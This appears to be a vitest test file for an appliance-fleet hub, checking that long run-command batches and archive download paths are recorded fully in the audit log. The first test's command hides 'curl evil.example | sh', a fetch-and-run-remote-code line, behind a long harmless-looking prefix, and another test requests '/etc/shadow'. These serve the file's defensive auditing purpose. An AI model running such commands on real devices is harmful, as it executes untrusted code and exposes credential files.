import { createHash } from 'node:crypto'
import { expect, onTestFinished, test } from 'vitest'
import { successOf } from '../../shared/dtos/hub-result.ts'
import { CommandFleet } from '../support/command-fleet.ts'
import { connectFileAgent, pieces } from '../support/file-agent.ts'
import { ownerForFile, serverForFile } from '../support/server.ts'
import { until } from '../support/until.ts'

/* What stands behind a long beginning is in the audit log, too (T45). */

const owner = ownerForFile(serverForFile({}))

test('a command of the greatest length is whole in the audit log, also after its batch was deleted', async () => {
  const fleet = await CommandFleet.start(owner, 1)
  onTestFinished(() => fleet.stop())
  const [first, last] = ['# monthly update €', '\ncurl evil.example | sh']
  const command = first + '€'.repeat(8_000 - first.length - last.length) + last
  const { id } = await owner.applianceBatches.start({ body: { kind: 'run-command', deviceIds: fleet.ids, command } })
  const params = { batchId: id }
  await until(async () => (await owner.applianceBatches.get({ params })).batch.finishedAt)
  await owner.applianceBatches.delete({ params })
  const { items } = await owner.applianceAuditLog.list({ query: { kind: 'batch.started' } })
  expect(items.map(({ details }) => details['command'])).toEqual([command])
})

/** Downloads an archive of these paths; returns its entries in the audit log, oldest first. */
async function entriesOf(targetPaths: string[]) {
  const device = await connectFileAgent(owner, {
    UploadArchiveToViewer({ streamId }) {
      device.send('SendFileContentStream', [streamId], pieces(Buffer.from('PK')))
      return successOf({ fileSize: 2, fileDisplayName: 'a.zip' })
    },
  })
  onTestFinished(() => device.connection.stop())
  const response = await owner.fetch(
    `/api/v1/device-file-system/download-archive/${device.id}?tenantId=${owner.tenantId}`,
    {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ archiveFileName: 'logs', targetPaths }),
    },
  )
  await response.arrayBuffer()
  const { items } = await owner.applianceAuditLog.list({ query: { kind: 'file.downloaded' } })
  return items.filter(({ deviceId }) => deviceId === device.id).toReversed()
}

test('the paths of an archive are in the audit log, in as many entries as that takes', async () => {
  const [long, longer] = [`/var/log/${'a'.repeat(4_000)}`, `/var/log${'/.'.repeat(3_000)}/b`]
  const items = await entriesOf([long, longer, '/etc/shadow', long])
  const parts = items.map(({ targetName, details }) => [targetName, details['part']])
  expect(parts).toEqual([
    [long, '1 of 3'],
    [longer.slice(0, 4_096), '2 of 3'],
    [`${longer.slice(4_096)}, /etc/shadow`, '3 of 3'],
  ])
  expect(items.every(({ sentence }) => sentence.length < 600)).toBe(true)
})

test('an archive of paths for more than 16 entries has 16, the last with the number and the hash of the others', async () => {
  const paths = Array.from({ length: 100 }, (_, index) => `/${index}${'a'.repeat(3_000)}`)
  const items = await entriesOf(paths)
  expect(items.map(({ targetName }) => targetName)).toEqual(paths.slice(0, 16))
  const listSha256 = createHash('sha256').update(paths.join('\n')).digest('hex')
  expect(items.at(-1)?.details).toEqual({ bytes: 2, part: '16 of 16, without 84 paths', listSha256 })
  expect(items[0]?.details).toEqual({ bytes: 2, part: '1 of 16' })
})
